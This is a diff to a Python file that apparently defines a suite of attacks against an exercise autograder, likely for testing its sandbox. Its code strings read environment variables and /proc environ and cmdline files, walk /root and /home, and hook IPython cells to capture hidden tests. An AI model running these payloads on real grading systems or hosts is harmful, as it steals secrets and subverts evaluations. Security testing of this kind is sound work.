@@ -15,6 +15,7 @@ def look(path, size=1 << 24):
         with open(path, "rb") as file: loot(file.read(size), path)
     except Exception: pass
 """
+READABLE = "a plain assert runs beside the answer, which can read it; the checks of exercises never are there"
 
 
 def search(slug, what, source, **more):
@@ -27,7 +28,7 @@ loot(repr(dict(os.environ)).encode(), "environ")
 for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"): look(path)
 """
 TREE = """
-for folder in ("@COURSE@", "/proc/self/cwd", "/proc/1/root@COURSE@", "/proc/self/root/..@COURSE@", "../../..", "/root", "/home"):
+for folder in ("@COURSE@", "/proc/self/cwd", "/proc/1/root@COURSE@", "/proc/self/root/..@COURSE@", "/root", "/home"):
     for parent, folders, files in os.walk(folder):
         if parent.count("/") > 12: continue
         for name in files:
@@ -96,9 +97,8 @@ for fd in range(3, 256):
     except Exception: pass
 """
 HIDDEN_TESTS = """
-def tell(info):
-    loot((getattr(info, "raw_cell", "") or "").encode(), "the cell")
-get_ipython().events.register("pre_run_cell", tell)
+kept = []
+get_ipython().events.register("pre_run_cell", lambda info: kept.append(getattr(info, "raw_cell", "") or ""))
 """
 HIDDEN_HISTORY = """
 def average(values):
@@ -152,14 +152,16 @@ ATTACKS = [
     Attack(
         "hidden_tests",
         "prints the hidden tests of a cell of plain asserts",
-        {"average": f"{LOOT}\n{HIDDEN_TESTS}\n{ANSWERS['average']}"},
-        limit="the text of a plain assert is run beside the answer, which can read it; what it prints there is shown to nobody",
+        {"average": f"{HIDDEN_TESTS}\n{ANSWERS['average']}"},
+        own=(("why", "print(kept)"),),
+        leaks=("hidden tests",),
+        limit=READABLE,
     ),
     Attack(
         "hidden_caller",
         "prints the source of whoever calls it",
         {"average": f"{LOOT}\n{HIDDEN_HISTORY}"},
-        limit="the text of a plain assert is run beside the answer, which can read it; what it prints there is shown to nobody",
+        limit=READABLE,
     ),
     search("leaves_files", "leaves files and shared memory for the next submission", LEAVE),
     search("finds_files", "looks for what the submission before it has left", FIND),
